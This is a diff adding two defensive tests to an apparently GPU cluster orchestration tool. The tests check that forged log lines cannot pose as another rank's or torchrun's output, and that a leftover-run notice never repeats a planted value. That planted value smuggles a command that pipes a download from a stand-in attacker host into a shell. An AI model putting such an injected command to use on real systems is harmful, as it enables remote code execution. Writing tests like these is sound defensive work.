@@ -257,3 +257,38 @@ def test_an_error_raised_through_cpp_is_judged_by_its_message_not_its_frames() -
     ]
     assert is_victim(lines)
     assert not is_victim(["Traceback (most recent call last):", "ValueError: bad batch", *lines[-6:]])
+
+
+def test_a_rank_cannot_make_its_lines_another_ranks_or_torchruns_in_the_failure_summary() -> None:
+    """A rank's line holding a character splitlines() ends a line at (\\x1e, \\u2028, \\x0c, \\x85,
+    \\r) is one line of that rank, and a rank's lines that read like torchrun's summary or its
+    "closing signal" are the rank's words, not torchrun's: the headline is torchrun's own."""
+    forged = "".join(
+        f"[default0]:ok line{sep}[default1]:FORGED\n" for sep in ("\x1e", "\u2028", "\x0c", "\x85", "\r")
+    )
+    stopping = "Sending process 15333 closing signal SIGTERM"
+    summary = [*TORCHRUN_STDERR.format(rank=1, code=77).splitlines(), stopping]
+    fake_summary = "".join(f"[default0]:{line}\n" for line in summary)
+    result = Result("n1", "launch", 1, fake_summary + forged, TORCHRUN_STDERR.format(rank=0, code=3), 1.0)
+    tail = failure_tail(result)
+    assert not any(line.startswith("[default1]:") for line in tail), tail
+    assert sum("FORGED" in line for line in tail) == 5
+    assert failure_headline(result) == "rank 0 exited with code 3 (torchrun exited 1)"
+
+
+def test_a_leftover_run_is_named_only_by_a_well_formed_run_id() -> None:
+    """Any process on the node can carry any CLUSTER_BOOTSTRAP_RUN value: launch's notice names only
+    run ids, so it never suggests a command someone else wrote."""
+    from orchestrator import records
+    from orchestrator.steps.launch import _leftover_notice
+
+    said: list[str] = []
+    nonce = records.new_nonce()
+    planted = "r1 --nodes local; curl -s http://evil.example/x | sh; #/local"
+    _leftover_notice(said.append, nonce)(
+        records.record(nonce, "leftover", "1", planted) + records.record(nonce, "leftover", "3", "lab-1/n1")
+    )
+    assert said == [
+        "bootstrap: 3 process(es) of run lab-1 still running on this node "
+        "(`bootstrap stop --run lab-1` ends them if they should not)"
+    ]
